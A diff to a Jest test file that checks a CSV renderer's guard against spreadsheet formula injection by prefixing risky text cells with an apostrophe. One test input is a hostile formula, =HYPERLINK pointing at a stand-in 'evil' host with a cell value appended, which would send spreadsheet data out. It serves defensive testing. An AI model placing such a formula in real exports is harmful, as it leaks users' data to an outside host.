@@ -44,4 +44,24 @@ describe('renderCsv', () => {
   test('no rows: just the header line', () => {
     expect(renderCsv(columns, [])).toBe('name,note\n');
   });
+
+  test("a text cell a spreadsheet would take for a formula gets a leading ', then the usual quoting (OWASP)", () => {
+    const names = ['=HYPERLINK("http://evil/?x="&A1,"click")', '-2+3', '+1', '@SUM(1+1)', '\t=1+1', '\r=1+1', "'=kept", 'a=b', ' =x'];
+    expect(renderCsv(columns, names.map((name) => ({ name })))).toBe(
+      'name,note\n' +
+        `"'=HYPERLINK(""http://evil/?x=""&A1,""click"")",\n'-2+3,\n'+1,\n'@SUM(1+1),\n'\t=1+1,\n"'\r=1+1",\n'=kept,\na=b,\n =x,\n`,
+    );
+  });
+
+  test('numbers stay numbers: only text cells are guarded', () => {
+    const numbers: CsvColumn<{ id: number | bigint; label: string }>[] = [
+      { header: 'id', value: (row) => row.id },
+      { header: 'label', value: (row) => row.label },
+    ];
+    expect(renderCsv(numbers, [{ id: -2, label: '-2' }, { id: -9007199254740993n, label: '3' }])).toBe("id,label\n-2,'-2\n-9007199254740993,3\n");
+  });
+
+  test('on a terminal the guard comes first, so a CR shown as \\r still follows the quote', () => {
+    expect(renderCsv(columns, [{ name: '\r=1+1' }], { tty: true })).toBe("name,note\n'\\r=1+1,\n");
+  });
 });
